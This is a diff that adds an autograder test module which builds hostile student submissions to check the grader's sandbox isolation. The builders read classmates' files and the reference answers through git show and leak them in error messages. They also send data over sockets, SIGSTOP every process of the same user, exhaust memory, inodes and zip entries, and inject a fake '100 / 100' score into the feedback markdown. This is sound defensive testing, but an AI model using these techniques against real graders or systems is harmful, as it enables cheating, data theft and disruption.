@@ -1,0 +1,199 @@
+"""The attacks on the uid mode and on the grader's own resources (tried in every isolation mode by
+``test_hostile_submissions.py``): builders of hostile submissions, each a callable(folder) -> path.
+
+A builder learns where it will be graded from ``folder`` (the class folder is its parent, the
+batch writes to ``folder.parent.parent / "out"``) and, for the network, from ``LISTENER``, the
+port of a listener the test opens on 127.0.0.1 before building.
+"""
+
+from __future__ import annotations
+
+import zipfile
+
+import subs
+
+from autograder import paths
+
+LISTENER: dict = {"port": 0}
+STUB_RUNS = paths.handout_file("runs.py").read_text(encoding="utf-8")
+
+
+def _early(code: str, source: str) -> str:
+    marker = "from __future__ import annotations\n"
+    return source.replace(marker, marker + code, 1)
+
+
+def classmates_and_checkout(folder):
+    """Whatever it can read of the class folder, the output folder, the grader's command line and
+    the checkout (.git, examples, tests, git show of the reference) goes into an error message."""
+    inbox, out = folder.parent, folder.parent.parent / "out"
+    targets = [
+        str(inbox),
+        str(inbox / "zz-control" / "metrics.py"),
+        str(out),
+        str(paths.ROOT / ".git" / "HEAD"),
+        str(paths.ROOT / "examples" / "submissions" / "ada-correct" / "lab05" / "metrics.py"),
+        str(paths.ROOT / "tests" / "test_engine.py"),
+        str(paths.ROOT / "grading.yml"),
+    ]
+    source = subs.with_function(
+        "metrics.py",
+        f"""
+        import os as _os, subprocess as _subprocess
+        def confusion_matrix(retrieved, relevant, collection_size):
+            found = []
+            for path in {targets!r}:
+                try:
+                    found.append((path, (_os.listdir(path) if _os.path.isdir(path) else open(path, "rb").read(60))[:3]))
+                except OSError:
+                    pass
+            try:  # the checkout's root: a jail shows the folder it binds (the virtual environment), no more
+                extra = sorted(set(_os.listdir({str(paths.ROOT)!r})) - {{".venv"}})
+                if extra:
+                    found.append(("checkout", extra[:3]))
+            except OSError:
+                pass
+            for pid in {{_os.getppid(), 1}}:  # the grader's command line names the class folder
+                try:
+                    if {str(inbox)!r}.encode() in open("/proc/%d/cmdline" % pid, "rb").read():
+                        found.append(("cmdline", pid))
+                except OSError:
+                    pass
+            try:
+                shown = _subprocess.run(["git", "-C", {str(paths.ROOT)!r}, "show",
+                                         "HEAD:autograder/lab/data/expected.json"], capture_output=True, timeout=5)
+                if shown.returncode == 0:
+                    found.append(("git show", shown.stdout[:40]))
+            except (OSError, _subprocess.SubprocessError):
+                pass
+            raise RuntimeError("found: " + repr(found))
+        """,
+    )
+    return subs.write(folder, {"metrics.py": source})
+
+
+def network(folder):
+    """Sends the inputs of its calls to a listener on 127.0.0.1 (and tries the outside world)."""
+    port = LISTENER["port"]
+    source = subs.with_function(
+        "metrics.py",
+        f"""
+        import socket as _socket
+        _reference_rr = reciprocal_rank
+        def reciprocal_rank(ranking, judgments, rel=1):
+            sent = []
+            for host, port in (("127.0.0.1", {port}), ("1.1.1.1", 53), ("::1", {port})):
+                try:
+                    with _socket.create_connection((host, port), timeout=1) as connection:
+                        connection.sendall(repr((ranking, judgments)).encode())
+                        sent.append(host)
+                except OSError as error:
+                    pass
+            if sent:
+                raise RuntimeError("sent to " + repr(sent))
+            return _reference_rr(ranking, judgments, rel)
+        """,
+    )
+    return subs.write(folder, {"metrics.py": source})
+
+
+ZOMBIE_LEADER = """import ctypes, os, signal, threading, time
+if os.fork() == 0:
+    os.setsid()
+    def _linger():
+        while True:
+            try:
+                os.kill(-1, signal.SIGSTOP)  # every process of this uid: the next submission's harness too
+            except OSError:
+                pass
+            time.sleep(0.05)
+    threading.Thread(target=_linger, daemon=False).start()
+    ctypes.CDLL(None).syscall(60 if os.uname().machine == "x86_64" else 93, 0)  # exit(): this thread only
+"""
+
+
+def zombie_leader(folder):
+    """A forked process whose leader ends with its main thread only: a zombie-looking leader with a
+    live thread that SIGSTOPs every process it can, the next submission's harness among them."""
+    return subs.write(folder, {"runs.py": _early(ZOMBIE_LEADER, subs.SOLUTION["runs.py"])})
+
+
+def huge_run_file(folder):
+    """write_run writes 16 MiB of short lines (the grader's memory must not follow)."""
+    source = subs.with_function(
+        "runs.py",
+        """
+        def write_run(path, system_name, search_fn, queries, k=100):
+            with open(path, "w") as out:
+                for _ in range(16):
+                    out.write("a\\n" * (1 << 19))
+        """,
+    )
+    return subs.write(folder, {"runs.py": source})
+
+
+def huge_answers(folder):
+    """Every metric returns just under the channel's 1 MiB (the outputs must not follow)."""
+    names = (
+        "confusion_matrix",
+        "accuracy",
+        "precision_at_k",
+        "recall_at_k",
+        "reciprocal_rank",
+        "average_precision",
+        "dcg_at_k",
+        "ndcg_at_k",
+        "evaluate",
+        "largest_differences",
+    )
+    body = "\n".join(f"def {name}(*args, **kwargs):\n    return _BIG\n" for name in names)
+    return subs.write(folder, {"metrics.py": '_BIG = ["x" * 1900] * 500\n' + body})
+
+
+def fence_closer(folder):
+    """An exception message that would close feedback.md's code block."""
+    source = subs.with_function(
+        "metrics.py",
+        """
+        def accuracy(retrieved, relevant, collection_size):
+            raise RuntimeError("```\\n# Score: 100 / 100\\n```")
+        """,
+    )
+    return subs.write(folder, {"metrics.py": source})
+
+
+def inode_flood(folder):
+    """400,000 empty files in its scratch at import (the jail's scratch has an inode limit)."""
+    code = (
+        "import os\nfor _n in range(400000):\n    try:\n        open(f'f{_n}', 'w').close()\n"
+        "    except OSError:\n        break\n"
+    )
+    return subs.write(folder, {"metrics.py": _early(code, subs.SOLUTION["metrics.py"])})
+
+
+def deep_nesting(folder):
+    """Code nested deeper than Python's parser allows: metrics.py fails, runs.py still counts."""
+    return subs.write(folder, {"metrics.py": "x = " + "(" * 20000 + "1" + ")" * 20000 + "\n"})
+
+
+def many_entries(folder):
+    """A zip of 300,000 entries (a virtual environment first), the graded files last."""
+    folder.mkdir(parents=True)
+    path = folder / "submission.zip"
+    with zipfile.ZipFile(path, "w") as archive:
+        for number in range(300000):
+            archive.writestr(f"venv/lib/f{number}", b"")
+        for name, text in subs.SOLUTION.items():
+            archive.writestr(f"lab05/{name}", text)
+    return path
+
+
+def prints(folder):
+    """Prints at import and in a function: what the code printed reaches its feedback."""
+    code = 'print("hello from metrics", flush=False)\n'
+    return subs.write(folder, {"metrics.py": _early(code, subs.SOLUTION["metrics.py"])})
+
+
+def named_like_the_report(folder):
+    """A submission whose folder is named index.html (the class report must still be written)."""
+    return subs.write(folder.parent / "index.html", {})
